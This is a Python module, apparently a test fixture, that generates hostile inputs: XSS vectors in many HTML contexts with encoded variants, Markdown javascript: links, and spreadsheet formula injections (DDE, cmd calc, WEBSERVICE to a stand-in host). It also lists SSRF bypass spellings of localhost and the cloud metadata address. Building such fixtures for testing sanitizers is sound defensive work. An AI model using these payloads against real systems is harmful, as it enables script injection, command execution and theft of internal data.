"""Hostile texts, addresses and cells, put together from what such things are made of; nobody's list."""

import re
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from typing import Final

RUN: Final = "top.ran.push({number})"
FAR: Final = "http://far.invalid/{number}"
# what runs a script, or asks another machine for something, once it is markup
VECTORS: Final = (
    "<script>{run}</script>",
    "<script src={far}></script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    '<iframe src="javascript:{run}"></iframe>',
    "<video><source onerror={run}></video>",
    "<object data={far}></object>",
    "<link rel=stylesheet href={far}>",
    "<style>@import '{far}';</style>",
    "<img src={far}>",
    "<a href='javascript:{run}' autofocus onfocus={run}>x</a>",
    "<marquee onstart={run}>x</marquee>",
)
# what ends the place in which a text stands, and a place in which it would
PLACES: Final = (
    ("", "<p>{text}</p>"),
    ('">', '<input value="{text}">'),
    ("'>", "<input value='{text}'>"),
    ("</title>", "<title>{text}</title>"),
    ("</textarea>", "<textarea>{text}</textarea>"),
    ("</script>", "<script>let said = '{text}'</script>"),
    ("-->", "<!-- {text} -->"),
    ("</style>", "<style>{text}</style>"),
    ("</noscript>", "<noscript>{text}</noscript>"),
)
# other ways to write it, which must not be read a second time
SPELLINGS: Final = (
    lambda text: re.sub(r"</?\w+", lambda tag: tag[0].upper(), text),
    lambda text: text.replace("<", "<<", 1),
    lambda text: re.sub(r"(<\w+) ", r"\1/", text),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c"),
)
MARKDOWN: Final = (
    "[x](javascript:{run})",
    "[x](<javascript:{run}>)",
    "[x](JaVaScRiPt:{run})",
    "[x](java&#115;cript:{run})",
    "[x](&#106;avascript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "<javascript:{run}>",
    "![x]({far})",
    "![x](javascript:{run})",
    "[x][y]\n\n[y]: javascript:{run}",
    "[x](vbscript:{run})",
    '[x]({far} "\\" onmouseover={run}")',
    "`<img src=x onerror={run}>`",
    "```\n<script>{run}</script>\n```",
)


@dataclass(frozen=True)
class Markup:
    """A text that would run, or fetch from afar, were it taken for markup; `place`: where it would."""

    text: str
    place: str


def markup() -> list[Markup]:
    """Every vector in every place, some of them spelt otherwise, and in Markdown."""
    made = [(end + vector, place) for (end, place), vector in product(PLACES, VECTORS)]
    made += [(spell(vector), PLACES[0][1]) for spell, vector in product(SPELLINGS, VECTORS[:6])]
    made += [(text, PLACES[0][1]) for text in MARKDOWN]
    return [
        Markup(text.replace("{run}", RUN).replace("{far}", FAR).replace("{number}", str(number)), place)
        for number, (text, place) in enumerate(made)
    ]


# how a cell may begin, and what a spreadsheet would do then
BEGINNINGS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\ufeff=",
    "＝",
    "＋",
    "－",
    "＠",
    ";=",
    "; =",
)
FORMULAS: Final = (
    "1+1",
    'HYPERLINK("http://far.invalid","x")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://far.invalid")',
    'IMPORTXML("http://far.invalid","//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
)


def formulas() -> list[str]:
    return [beginning + formula for beginning, formula in product(BEGINNINGS, FORMULAS)]


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for one, or a part where semicolons or lines separate."""
    parts = re.split(r"[;\t\r\n]", cell)
    return any(part.strip(" \u00a0\ufeff\0").startswith(tuple("=+-@＝＋－＠")) for part in parts if part)


def hosts_of_this_machine() -> Iterator[str]:
    """Ways to write this machine, or a neighbour that nobody else can reach, as the host of an address."""
    yield from ("localhost", "LOCALHOST", "localhost.", "ip6-localhost")
    for first, rest in (
        ("127", "0.0.1"),
        ("0177", "0.0.1"),
        ("0x7f", "0.0.1"),
        ("127", "1"),
        ("0x7f", "1"),
        ("0177", "1"),
    ):
        yield f"{first}.{rest}"
    yield from ("2130706433", "0x7f000001", "017700000001", "127.0.0.1.", "0", "0.0.0.0", "127.255.255.254")
    yield from ("１２７.０.０.１", "①②⑦.⓪.⓪.①", "127。0。0。1", "127．0．0．1")
    yield from ("10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1", "198.18.0.1", "192.0.0.1", "240.0.0.1")
    yield from (
        "169.254.169.254",
        "0xa9fea9fe",
        "2852039166",
        "0251.0376.0251.0376",
        "255.255.255.255",
        "224.0.0.1",
    )
    yield from ("127.127.127.127", "192.0.2.1", "203.0.113.7")
    yield from ("[::ffff:0:7f00:1]", "[fec0::1]", "[2001:db8::1]")
    for inner in ("127.0.0.1", "7f00:1", "169.254.169.254", "10.0.0.1"):
        yield from (f"[::ffff:{inner}]", f"[64:ff9b::{inner}]", f"[::{inner}]")
    yield from (
        "[::1]",
        "[::]",
        "[0:0:0:0:0:0:0:1]",
        "[2002:7f00:1::]",
        "[2002:a9fe:a9fe::]",
        "[2001:0:1::]",
        "[fe80::1]",
        "[fc00::1]",
        "[fd00:ec2::254]",
        "[ff02::1]",
        "[64:ff9b:1::7f00:1]",
    )
